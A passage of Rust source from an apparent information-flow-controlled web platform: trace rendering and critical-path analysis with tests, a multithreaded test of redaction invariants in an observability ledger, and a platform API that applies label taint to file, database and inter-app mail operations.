        v.sort_by_key(|&i| (spans[i].start_us, spans[i].id));
    }
    map
}

/// Render the request tree(s) in a trace, `w5trace --tree` style:
///
/// ```text
/// trace 0000000000000001 — 3 spans
///   net.http GET /app [net] 1200µs
///     platform.invoke [platform] 1100µs {7}
/// ```
///
/// Non-empty secrecy labels print as `{tag,tag}`.
pub fn render_tree(spans: &[SpanRecord]) -> String {
    let mut out = String::new();
    for trace in trace_ids(spans) {
        let of_trace: Vec<SpanRecord> =
            spans.iter().filter(|s| s.trace == trace).cloned().collect();
        out.push_str(&format!("trace {trace:016x} — {} spans\n", of_trace.len()));
        let map = children_of(&of_trace);
        fn walk(
            out: &mut String,
            spans: &[SpanRecord],
            map: &BTreeMap<Option<u64>, Vec<usize>>,
            key: Option<u64>,
            depth: usize,
        ) {
            let Some(kids) = map.get(&key) else { return };
            for &i in kids {
                let s = &spans[i];
                let label = if s.secrecy.is_empty() {
                    String::new()
                } else {
                    let tags: Vec<String> = s.secrecy.iter().map(|t| t.to_string()).collect();
                    format!(" {{{}}}", tags.join(","))
                };
                out.push_str(&format!(
                    "{}{} [{}] {}µs{}\n",
                    "  ".repeat(depth + 1),
                    s.name,
                    s.layer.name(),
                    s.duration_us(),
                    label,
                ));
                walk(out, spans, map, Some(s.id), depth + 1);
            }
        }
        walk(&mut out, &of_trace, &map, None, 0);
    }
    out
}

/// The critical path of one trace: starting from its slowest root,
/// repeatedly descend into the child covering the most wall time. Each
/// step reports the span's total and self time (duration minus the sum
/// of its children's durations, clipped at zero).
pub fn critical_path(spans: &[SpanRecord], trace: u64) -> Vec<CriticalPathStep> {
    let of_trace: Vec<SpanRecord> = spans.iter().filter(|s| s.trace == trace).cloned().collect();
    let map = children_of(&of_trace);
    let mut path = Vec::new();
    // Slowest root first; ties broken by id for determinism.
    let mut cur = map
        .get(&None)
        .and_then(|roots| {
            roots.iter().copied().max_by_key(|&i| (of_trace[i].duration_us(), u64::MAX - of_trace[i].id))
        });
    while let Some(i) = cur {
        let s = &of_trace[i];
        let kids = map.get(&Some(s.id));
        let child_total: u64 =
            kids.map(|k| k.iter().map(|&c| of_trace[c].duration_us()).sum()).unwrap_or(0);
        path.push(CriticalPathStep {
            name: s.name.clone(),
            layer: s.layer,
            total_us: s.duration_us(),
            self_us: s.duration_us().saturating_sub(child_total),
        });
        cur = kids.and_then(|k| {
            k.iter().copied().max_by_key(|&c| (of_trace[c].duration_us(), u64::MAX - of_trace[c].id))
        });
    }
    path
}

/// Attribute a trace's wall time to layers: each span's self time
/// (duration minus children) accumulates under its layer's name.
pub fn layer_attribution(spans: &[SpanRecord], trace: u64) -> BTreeMap<String, u64> {
    let of_trace: Vec<&SpanRecord> = spans.iter().filter(|s| s.trace == trace).collect();
    let mut child_total: BTreeMap<u64, u64> = BTreeMap::new();
    for s in &of_trace {
        if let Some(p) = s.parent {
            *child_total.entry(p).or_default() += s.duration_us();
        }
    }
    let mut by_layer: BTreeMap<String, u64> = BTreeMap::new();
    for s in &of_trace {
        let own = s.duration_us().saturating_sub(child_total.get(&s.id).copied().unwrap_or(0));
        *by_layer.entry(s.layer.name().to_string()).or_default() += own;
    }
    by_layer
}

/// Traces ranked by root wall time, slowest first: `(trace id, total µs)`.
pub fn slowest_traces(spans: &[SpanRecord], n: usize) -> Vec<(u64, u64)> {
    let mut totals: Vec<(u64, u64)> = trace_ids(spans)
        .into_iter()
        .map(|t| {
            let of_trace: Vec<SpanRecord> =
                spans.iter().filter(|s| s.trace == t).cloned().collect();
            let map = children_of(&of_trace);
            let total = map
                .get(&None)
                .map(|roots| roots.iter().map(|&i| of_trace[i].duration_us()).sum())
                .unwrap_or(0);
            (t, total)
        })
        .collect();
    totals.sort_by_key(|&(t, total)| (u64::MAX - total, t));
    totals.truncate(n);
    totals
}

#[cfg(test)]
mod tests {
    use super::*;

    fn span(trace: u64, id: u64, parent: Option<u64>, name: &str, layer: Layer, start: u64, end: u64) -> SpanRecord {
        SpanRecord {
            trace,
            id,
            parent,
            name: name.to_string(),
            layer,
            secrecy: ObsLabel::empty(),
            start_us: start,
            end_us: end,
        }
    }

    #[test]
    fn context_roundtrips_and_rejects_malformed() {
        let ctx = TraceContext { trace: 0xabc, parent: 7, sampled: true };
        let s = ctx.encode();
        assert_eq!(s, "0000000000000abc-0000000000000007-1");
        assert_eq!(TraceContext::parse(&s), Some(ctx));
        assert_eq!(TraceContext::parse("0-0-0"), Some(TraceContext { trace: 0, parent: 0, sampled: false }));
        for bad in ["", "xyz", "1-2", "1-2-3", "1-2-1-4", "1-g-0"] {
            assert_eq!(TraceContext::parse(bad), None, "{bad:?} must not parse");
        }
    }

    #[test]
    fn sampling_is_deterministic_and_rate_bounded() {
        for trace in 0..64u64 {
            assert!(sample_decision(trace, 9, u64::MAX), "rate 1.0 samples everything");
            assert_eq!(sample_decision(trace, 9, u64::MAX / 2), sample_decision(trace, 9, u64::MAX / 2));
        }
        let hits = (0..1000u64).filter(|&t| sample_decision(t, 42, u64::MAX / 2)).count();
        assert!((300..700).contains(&hits), "rate 0.5 sampled {hits}/1000");
    }

    #[test]
    fn redaction_hides_name_label_and_fine_timing() {
        let mut s = span(1, 2, Some(1), "platform.export_check", Layer::Platform, 12_345, 15_432);
        s.secrecy = ObsLabel::singleton(9);
        let r = s.redacted();
        assert_eq!(r.name, REDACTED_NAME);
        assert!(r.secrecy.is_empty());
        assert_eq!(r.start_us % SPAN_QUANTUM_US, 0);
        assert_eq!(r.duration_us() % SPAN_QUANTUM_US, 0);
        // Structure survives.
        assert_eq!((r.trace, r.id, r.parent, r.layer), (1, 2, Some(1), Layer::Platform));
        // Two durations in the same quantum bucket redact identically.
        let mut s2 = s.clone();
        s2.end_us = s.start_us + 9_999;
        assert_eq!(s.redacted(), s2.redacted());
    }

    #[test]
    fn redact_spans_gates_by_subset() {
        let mut secret = span(1, 2, Some(1), "secret-op", Layer::Store, 0, 10);
        secret.secrecy = ObsLabel::singleton(4);
        let public = span(1, 1, None, "net.http", Layer::Net, 0, 20);
        let (low, n) = redact_spans(&[public.clone(), secret.clone()], &ObsLabel::empty());
        assert_eq!(n, 1);
        assert_eq!(low[0], public);
        assert_eq!(low[1].name, REDACTED_NAME);
        let (high, n) = redact_spans(&[public.clone(), secret.clone()], &ObsLabel::singleton(4));
        assert_eq!(n, 0);
        assert_eq!(high[1], secret);
    }

    #[test]
    fn tree_renders_nested_and_stitched_roots() {
        let spans = vec![
            span(5, 1, None, "federation.pull", Layer::Net, 0, 500),
            span(5, 2, Some(1), "net.http GET /federation/export", Layer::Net, 50, 450),
            span(5, 3, Some(2), "platform.export_check", Layer::Platform, 100, 200),
            // A span whose parent was recorded by the *other* instance:
            // renders as a root of this view rather than vanishing.
            span(6, 9, Some(100), "net.http GET /x", Layer::Net, 0, 10),
        ];
        let t = render_tree(&spans);
        assert!(t.contains("trace 0000000000000005 — 3 spans"));
        let pull = t.find("federation.pull").unwrap();
        let http = t.find("net.http GET /federation/export").unwrap();
        let check = t.find("platform.export_check").unwrap();
        assert!(pull < http && http < check, "nesting order:\n{t}");
        assert!(t.contains("    net.http"), "child indented:\n{t}");
        assert!(t.contains("trace 0000000000000006"));
    }

    #[test]
    fn critical_path_follows_slowest_child_and_attributes_self_time() {
        let spans = vec![
            span(1, 1, None, "net.http", Layer::Net, 0, 1000),
            span(1, 2, Some(1), "platform.invoke", Layer::Platform, 100, 900),
            span(1, 3, Some(2), "platform.export_check", Layer::Platform, 150, 250),
            span(1, 4, Some(2), "kernel.send", Layer::Kernel, 300, 800),
        ];
        let path = critical_path(&spans, 1);
        let names: Vec<&str> = path.iter().map(|s| s.name.as_str()).collect();
        assert_eq!(names, ["net.http", "platform.invoke", "kernel.send"]);
        assert_eq!(path[0].total_us, 1000);
        assert_eq!(path[0].self_us, 200, "root self = 1000 - 800 child");
        assert_eq!(path[1].self_us, 200, "invoke self = 800 - (100 + 500)");

        let attr = layer_attribution(&spans, 1);
        assert_eq!(attr["net"], 200);
        assert_eq!(attr["platform"], 300);
        assert_eq!(attr["kernel"], 500);
        assert_eq!(attr.values().sum::<u64>(), 1000, "attribution partitions the root");
    }

    #[test]
    fn slowest_ranks_by_root_duration() {
        let spans = vec![
            span(1, 1, None, "a", Layer::Net, 0, 100),
            span(2, 2, None, "b", Layer::Net, 0, 300),
            span(3, 3, None, "c", Layer::Net, 0, 200),
        ];
        assert_eq!(slowest_traces(&spans, 2), vec![(2, 300), (3, 200)]);
    }

    #[test]
    fn span_record_json_roundtrips() {
        let mut s = span(3, 4, Some(2), "kernel.send", Layer::Kernel, 10, 20);
        s.secrecy = ObsLabel::from_tags([7, 9]);
        let j = serde_json::to_string(&s).unwrap();
        let back: SpanRecord = serde_json::from_str(&j).unwrap();
        assert_eq!(back, s);
    }
}
