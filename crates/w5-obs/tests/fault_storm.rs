//! Fault storm: hammer one ledger from many threads — writers recording
//! labeled and unlabeled events, viewers snapshotting with every
//! clearance — and check that the covert-channel defenses hold under
//! contention exactly as they do single-threaded:
//!
//! * no panics, no deadlocks (the test finishing is the assertion);
//! * every redacted view's aggregate is floored to [`QUANTUM`];
//! * every redacted view's sequence numbers are dense from zero;
//! * no view ever contains an event its clearance does not cover.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use w5_obs::ledger::QUANTUM;
use w5_obs::{EventKind, Ledger, ObsLabel};

const SECRET_TAGS: [u64; 3] = [11, 22, 33];

fn storm_kind(rng: &mut StdRng) -> (ObsLabel, EventKind) {
    let secrecy = match rng.gen_range(0..4) {
        0 => ObsLabel::empty(),
        n => ObsLabel::singleton(SECRET_TAGS[n - 1]),
    };
    let kind = match rng.gen_range(0..4) {
        0 => EventKind::ProcSpawn { pid: rng.gen_range(1..100), parent: 0, name: "p".into() },
        1 => EventKind::StoreRead {
            path: "/storm".into(),
            bytes: rng.gen_range(0..4096),
            allowed: rng.gen_bool(0.8),
        },
        2 => EventKind::LabelCheck { op: "flow".into(), allowed: rng.gen_bool(0.7) },
        _ => EventKind::ExportCheck {
            app: "dev/app".into(),
            allowed: rng.gen_bool(0.5),
            blocked_tags: rng.gen_range(0..3),
        },
    };
    (secrecy, kind)
}

#[test]
fn concurrent_storm_upholds_redaction_invariants() {
    let ledger = Arc::new(Ledger::with_capacity(512));
    let stop = Arc::new(AtomicBool::new(false));

    // Writers: 4 threads × 4000 events with mixed labels.
    let writers: Vec<_> = (0..4u64)
        .map(|t| {
            let l = Arc::clone(&ledger);
            std::thread::spawn(move || {
                let mut rng = StdRng::seed_from_u64(1000 + t);
                for _ in 0..4000 {
                    let (secrecy, kind) = storm_kind(&mut rng);
                    l.record(&secrecy, kind);
                }
            })
        })
        .collect();

    // Viewers: 3 threads snapshotting with rotating clearances while the
    // writers are mid-flight; every intermediate view must already honor
    // the invariants (they are not post-hoc cleanup).
    let viewers: Vec<_> = (0..3u64)
        .map(|t| {
            let l = Arc::clone(&ledger);
            let stop = Arc::clone(&stop);
            std::thread::spawn(move || {
                let clearances = [
                    ObsLabel::empty(),
                    ObsLabel::singleton(SECRET_TAGS[0]),
                    ObsLabel::from_tags(SECRET_TAGS),
                ];
                let mut i = t as usize;
                let mut views = 0u32;
                // Stop is checked at the bottom: every viewer takes at
                // least one view even if the writers win the scheduling
                // race and finish before this thread first runs.
                loop {
                    let clearance = &clearances[i % clearances.len()];
                    i += 1;
                    let v = l.view(clearance);
                    for e in &v.events {
                        assert!(
                            e.secrecy.is_subset(clearance),
                            "view leaked an event above its clearance"
                        );
                    }
                    if v.redacted {
                        for (layer, n) in v.aggregate.events.iter().chain(v.aggregate.denied.iter())
                        {
                            assert_eq!(n % QUANTUM, 0, "unquantized {layer} count {n} in redacted view");
                        }
                        for (ix, e) in v.events.iter().enumerate() {
                            assert_eq!(e.seq, ix as u64, "redacted view seqs must be dense");
                        }
                    }
                    views += 1;
                    if stop.load(Ordering::Relaxed) {
                        break;
                    }
                }
                views
            })
        })
        .collect();

    for w in writers {
        w.join().expect("writer panicked under storm");
    }
    stop.store(true, Ordering::Relaxed);
    for v in viewers {
        let views = v.join().expect("viewer panicked under storm");
        assert!(views > 0, "viewer never ran");
    }

    // Steady state after the storm: counters account for every event.
    assert_eq!(ledger.events_recorded(), 4 * 4000);
    let full = ledger.view(&ObsLabel::from_tags(SECRET_TAGS));
    assert!(!full.redacted, "full clearance must see everything");
    let zero = ledger.view(&ObsLabel::empty());
    assert!(zero.redacted, "a storm with labeled events must redact the empty view");
    assert!(
        zero.events.iter().all(|e| e.secrecy.is_subset(&ObsLabel::empty())),
        "zero clearance recovered a labeled event"
    );
}

#[test]
fn digest_is_stable_under_replay_and_sensitive_to_any_event() {
    // Single-threaded replay: identical streams give identical digests…
    let run = |n: u64| {
        let l = Ledger::new();
        let mut rng = StdRng::seed_from_u64(5);
        for _ in 0..n {
            let (s, k) = storm_kind(&mut rng);
            l.record(&s, k);
        }
        l.digest()
    };
    assert_eq!(run(500), run(500));
    // …and one extra event changes the digest.
    assert_ne!(run(500), run(501));
}
