//! The platform API handed to running applications.
//!
//! Applications (developer-written code, paper §2) never touch the kernel,
//! filesystem or database directly: every operation goes through a
//! [`PlatformApi`] bound to the app instance's kernel process, so labels
//! taint and flow checks apply exactly as if the app were a process on a
//! DIFC operating system. The API is the W5 analogue of "the Unix system
//! call API" the paper mentions — file I/O, storage queries, and request
//! context — with flow control woven through.

use crate::principal::Account;
use bytes::Bytes;
use std::collections::BTreeMap;
use std::fmt;
use w5_difc::LabelPair;
use w5_kernel::{Kernel, KernelError, ProcessId, ResourceKind};
use w5_store::{Database, FsError, LabeledFs, QueryCost, QueryError, QueryMode, QueryOutput, Subject};

/// Global sequence for inter-app mail ordering.
static NEXT_MAIL_SEQ: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);

/// Errors surfaced to application code.
///
/// Deliberately coarse: detailed flow-control reasons are trusted-side
/// information (see the covert-channel discussion in `w5-kernel`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ApiError {
    /// The object does not exist (or is invisible to this instance).
    NotFound,
    /// The operation was denied by label policy.
    Denied,
    /// A resource quota was exhausted.
    Quota,
    /// Malformed input (bad path, bad SQL, type error). The message is the
    /// app's own fault to see.
    Bad(String),
    /// Transient infrastructure failure (aborted write, dropped IPC,
    /// injected fault). The operation had no effect; retrying is safe.
    Unavailable(String),
}

impl fmt::Display for ApiError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ApiError::NotFound => write!(f, "not found"),
            ApiError::Denied => write!(f, "denied"),
            ApiError::Quota => write!(f, "quota exceeded"),
            ApiError::Bad(m) => write!(f, "bad request: {m}"),
            ApiError::Unavailable(m) => write!(f, "temporarily unavailable: {m}"),
        }
    }
}

impl std::error::Error for ApiError {}

impl From<FsError> for ApiError {
    fn from(e: FsError) -> Self {
        match e {
            FsError::NotFound => ApiError::NotFound,
            FsError::WriteDenied => ApiError::Denied,
            FsError::QuotaExceeded => ApiError::Quota,
            FsError::AlreadyExists => ApiError::Bad("already exists".into()),
            FsError::BadPath => ApiError::Bad("bad path".into()),
            FsError::Aborted => ApiError::Unavailable("storage write aborted".into()),
        }
    }
}

impl From<QueryError> for ApiError {
    fn from(e: QueryError) -> Self {
        match e {
            QueryError::WriteDenied => ApiError::Denied,
            QueryError::BudgetExhausted => ApiError::Quota,
            QueryError::Aborted => ApiError::Unavailable("query aborted".into()),
            other => ApiError::Bad(other.to_string()),
        }
    }
}

impl From<KernelError> for ApiError {
    fn from(e: KernelError) -> Self {
        match e {
            KernelError::Quota(_) => ApiError::Quota,
            KernelError::Difc(_) => ApiError::Denied,
            KernelError::Injected(site) => ApiError::Unavailable(format!("kernel fault at {site}")),
            _ => ApiError::Bad(e.to_string()),
        }
    }
}

/// The request an application instance handles.
#[derive(Clone, Debug)]
pub struct AppRequest {
    /// HTTP method name (`"GET"`, `"POST"`, …).
    pub method: String,
    /// The action path within the app (e.g. `"view"`, `"albums/cats"`).
    pub action: String,
    /// Merged query + form parameters (later keys win).
    pub params: BTreeMap<String, String>,
    /// The authenticated viewer's username, if any. Identity is public;
    /// the viewer's *data* is not.
    pub viewer: Option<String>,
    /// Module choices resolved by the launcher from the viewer's policy:
    /// slot name → providing developer (paper §2, "use developer A's photo
    /// cropping module and developer B's labeling module").
    pub modules: BTreeMap<String, String>,
    /// Raw request body.
    pub body: Bytes,
}

impl AppRequest {
    /// Parameter lookup.
    pub fn param(&self, key: &str) -> Option<&str> {
        self.params.get(key).map(String::as_str)
    }

    /// The developer chosen for a module slot, if any.
    pub fn module(&self, slot: &str) -> Option<&str> {
        self.modules.get(slot).map(String::as_str)
    }
}

/// The response an application returns. The *labels* on it are not chosen
/// by the app — they are read off the app's kernel process by the
/// launcher, so an app cannot under-declare what it has read.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AppResponse {
    /// MIME type.
    pub content_type: String,
    /// Body bytes.
    pub body: Bytes,
}

impl AppResponse {
    /// An HTML response.
    pub fn html(body: impl Into<String>) -> AppResponse {
        AppResponse { content_type: "text/html; charset=utf-8".into(), body: Bytes::from(body.into()) }
    }

    /// A plain-text response.
    pub fn text(body: impl Into<String>) -> AppResponse {
        AppResponse { content_type: "text/plain; charset=utf-8".into(), body: Bytes::from(body.into()) }
    }

    /// A JSON response.
    pub fn json(body: impl Into<String>) -> AppResponse {
        AppResponse { content_type: "application/json".into(), body: Bytes::from(body.into()) }
    }
}

/// Label policies an app can request for data it creates.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum CreateLabels {
    /// The viewer's default data labels (`S={e_v}, I={w_v}`). Requires the
    /// viewer to have delegated write privilege to this app.
    ViewerData,
    /// The viewer's *read-protected* labels (`S={e_v, r_v}, I={w_v}`):
    /// only read-delegated apps can even see the data. Requires the viewer
    /// to have enabled read protection and delegated both write and read
    /// privileges to this app (§3.1 "read protection").
    ViewerPrivate,
    /// The instance's current secrecy with no integrity claim — derived /
    /// cache data that inherits everything the instance has read.
    Derived,
}

/// The executable side of an application: Rust code standing in for the
/// developer-uploaded binaries of §2.
pub trait W5App: Send + Sync {
    /// Handle one request.
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError>;
    /// Approximate source size in lines — the audit-surface metric for E5.
    fn source_lines(&self) -> usize;
}

/// The capability-scoped handle an app instance uses for every effect.
pub struct PlatformApi<'a> {
    kernel: &'a Kernel,
    fs: &'a LabeledFs,
    db: &'a Database,
    pid: ProcessId,
    viewer: Option<&'a Account>,
    /// The running app's key — the address of its own mailbox.
    app_key: String,
    query_cost: QueryCost,
    query_mode: QueryMode,
    /// App-visible log; folded into fault reports (label-scrubbed) on crash.
    log: Vec<String>,
}

impl<'a> PlatformApi<'a> {
    /// Construct (platform-internal).
    #[allow(clippy::too_many_arguments)]
    pub(crate) fn new(
        kernel: &'a Kernel,
        fs: &'a LabeledFs,
        db: &'a Database,
        pid: ProcessId,
        viewer: Option<&'a Account>,
        app_key: &str,
        query_cost: QueryCost,
        query_mode: QueryMode,
    ) -> PlatformApi<'a> {
        PlatformApi {
            kernel,
            fs,
            db,
            pid,
            viewer,
            app_key: app_key.to_string(),
            query_cost,
            query_mode,
            log: Vec::new(),
        }
    }

    /// The instance's kernel process id (for diagnostics).
    pub fn pid(&self) -> ProcessId {
        self.pid
    }

    /// The authenticated viewer's username.
    pub fn viewer(&self) -> Option<&str> {
        self.viewer.map(|a| a.username.as_str())
    }

    fn subject(&self) -> Result<Subject, ApiError> {
        let labels = self.kernel.labels(self.pid)?;
        let caps = self.kernel.effective_caps(self.pid)?;
        Ok(Subject::new(labels, caps))
    }

    fn charge_cpu(&self, ticks: u64) -> Result<(), ApiError> {
        match self.kernel.charge(self.pid, ResourceKind::Cpu, ticks) {
            Ok(()) => Ok(()),
            Err(KernelError::Quota(q)) => Err(KernelError::Quota(q).into()),
            Err(e) => Err(e.into()),
        }
    }

    /// Read a file; the instance is tainted with the file's labels.
    pub fn read_file(&mut self, path: &str) -> Result<Bytes, ApiError> {
        self.charge_cpu(1)?;
        let subject = self.subject()?;
        let (data, labels) = self.fs.read(&subject, path)?;
        self.kernel.taint_for_read(self.pid, &labels)?;
        self.kernel
            .charge(self.pid, ResourceKind::Memory, data.len() as u64)
            .ok();
        Ok(data)
    }

    /// File metadata (also taints — knowing the size is knowing something).
    pub fn stat_file(&mut self, path: &str) -> Result<w5_store::FileMeta, ApiError> {
        self.charge_cpu(1)?;
        let subject = self.subject()?;
        let meta = self.fs.stat(&subject, path)?;
        self.kernel.taint_for_read(self.pid, &meta.labels)?;
        Ok(meta)
    }

    /// List a directory; taints with the union of listed entries' labels.
    pub fn list_files(&mut self, dir: &str) -> Result<Vec<w5_store::FileMeta>, ApiError> {
        self.charge_cpu(1)?;
        let subject = self.subject()?;
        let entries = self.fs.list(&subject, dir)?;
        for m in &entries {
            self.kernel.taint_for_read(self.pid, &m.labels)?;
        }
        Ok(entries)
    }

    /// Create a file with the requested label policy.
    pub fn create_file(&mut self, path: &str, data: Bytes, labels: CreateLabels) -> Result<(), ApiError> {
        self.charge_cpu(1)?;
        self.kernel
            .charge(self.pid, ResourceKind::Disk, data.len() as u64)?;
        let subject = self.subject()?;
        let file_labels = self.resolve_labels(labels, &subject)?;
        self.fs.create(&subject, path, file_labels, data)?;
        Ok(())
    }

    /// Overwrite a file (labels preserved; write checks apply).
    pub fn write_file(&mut self, path: &str, data: Bytes) -> Result<(), ApiError> {
        self.charge_cpu(1)?;
        self.kernel
            .charge(self.pid, ResourceKind::Disk, data.len() as u64)?;
        let subject = self.subject()?;
        self.fs.write(&subject, path, data)?;
        Ok(())
    }

    /// Delete a file (a write).
    pub fn delete_file(&mut self, path: &str) -> Result<(), ApiError> {
        self.charge_cpu(1)?;
        let subject = self.subject()?;
        self.fs.delete(&subject, path)?;
        Ok(())
    }

    /// Run a query. SELECT results taint the instance with the combined
    /// labels of contributing rows; INSERTs stamp rows per `labels`.
    pub fn query(&mut self, sql: &str, labels: CreateLabels) -> Result<QueryOutput, ApiError> {
        let subject = self.subject()?;
        let insert_labels = self.resolve_labels(labels, &subject)?;
        let out = self
            .db
            .execute(&subject, self.query_mode, self.query_cost, &insert_labels, sql)?;
        self.charge_cpu(1 + out.scanned)?;
        self.kernel.taint_for_read(self.pid, &out.labels)?;
        Ok(out)
    }

    /// Send a message to another application's mailbox — the "communication
    /// with other modules" of paper §2, built on the labeled store so flow
    /// control applies automatically: the message row carries this
    /// instance's secrecy, and whoever reads it is tainted accordingly.
    /// Returns the message's sequence number.
    pub fn send_message(&mut self, to_app: &str, body: &str) -> Result<i64, ApiError> {
        if to_app.is_empty() || to_app.contains('\'') {
            return Err(ApiError::Bad("bad app key".into()));
        }
        let seq = NEXT_MAIL_SEQ.fetch_add(1, std::sync::atomic::Ordering::Relaxed) as i64;
        let sql = format!(
            "INSERT INTO w5_mail (app, body, seq) VALUES ('{}', '{}', {})",
            crate::platform::sql_escape(to_app),
            crate::platform::sql_escape(body),
            seq
        );
        self.query(&sql, CreateLabels::Derived)?;
        Ok(seq)
    }

    /// Read this app's mailbox: messages with `seq > since`, oldest first.
    /// Reading taints the instance with every message's labels (exactly
    /// like any other read); messages this instance may not read are
    /// silently absent. Consumption is cursor-based — instances persist
    /// their cursor wherever suits them.
    pub fn recv_messages(&mut self, since: i64) -> Result<Vec<(i64, String)>, ApiError> {
        let sql = format!(
            "SELECT seq, body FROM w5_mail WHERE app = '{}' AND seq > {} ORDER BY seq",
            crate::platform::sql_escape(&self.app_key),
            since
        );
        let out = self.query(&sql, CreateLabels::Derived)?;
        Ok(out
            .rows
            .iter()
            .filter_map(|r| match (&r.values[0], &r.values[1]) {
                (w5_store::Value::Int(seq), w5_store::Value::Text(body)) => {
                    Some((*seq, body.clone()))
                }
                _ => None,
            })
            .collect())
    }

    /// Append to the instance log (label-scrubbed before any developer
    /// sees it; see `faultreport`).
    pub fn log(&mut self, message: impl Into<String>) {
        if self.log.len() < 1000 {
            self.log.push(message.into());
        }
    }

    /// The instance log (platform-internal).
    pub(crate) fn take_log(&mut self) -> Vec<String> {
        std::mem::take(&mut self.log)
    }

    /// The instance's current labels (apps may inspect their own taint).
    pub fn my_labels(&self) -> Result<LabelPair, ApiError> {
        Ok(self.kernel.labels(self.pid)?)
    }

    fn resolve_labels(&self, policy: CreateLabels, subject: &Subject) -> Result<LabelPair, ApiError> {
        match policy {
            CreateLabels::ViewerData => {
                let viewer = self.viewer.ok_or(ApiError::Denied)?;
                Ok(viewer.data_labels())
            }
            CreateLabels::ViewerPrivate => {
                let viewer = self.viewer.ok_or(ApiError::Denied)?;
                let read_tag = viewer.read_tag.ok_or(ApiError::Denied)?;
                let base = viewer.data_labels();
                Ok(LabelPair::new(base.secrecy.with(read_tag), base.integrity))
            }
            CreateLabels::Derived => {
                Ok(LabelPair::new(subject.labels.secrecy.clone(), w5_difc::Label::empty()))
            }
        }
    }
}
